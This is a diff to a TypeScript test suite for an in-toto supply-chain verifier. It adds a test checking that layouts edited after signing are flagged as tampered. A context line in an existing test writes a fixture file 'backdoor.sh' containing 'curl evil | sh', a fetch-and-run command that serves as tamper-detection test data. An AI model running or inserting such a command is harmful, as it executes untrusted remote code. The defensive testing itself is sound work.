@@ -153,6 +153,18 @@ describe('in-toto verifier: layouts and links made with node:crypto', () => {
     expect((await verify(scenario('other-key'), writer)).verdict).toBe('untrusted');
   });
 
+  it('finds a layout changed after the owner signed it (tampered), by every kind of owner key', async () => {
+    for (const kind of ['ed25519', 'ecdsa-p256', 'ecdsa-p384', 'rsa'] as const) {
+      const ownerKey = makeKey(kind);
+      const s = scenario(`layout-edited-${kind}`, { layoutSigner: ownerKey });
+      expect((await verify(s, ownerKey)).verdict).toBe('verified');
+      fs.writeFileSync(s.layoutPath, fs.readFileSync(s.layoutPath, 'utf8').replace('"DISALLOW"', '"ALLOW"'));
+      const report = await verify(s, ownerKey);
+      expect(report.verdict).toBe('tampered');
+      expect(report.signatures[0]).toMatchObject({ status: 'invalid', signerName: 'layout owner (owner.pub)' });
+    }
+  });
+
   it('reports a DISALLOW rule violated as tampered', async () => {
     const s = scenario('disallow', { buildProducts: { 'src.txt': SOURCE, 'out.bin': BUILT, 'backdoor.sh': 'curl evil | sh' } });
     fs.writeFileSync(path.join(s.work, 'backdoor.sh'), 'curl evil | sh');
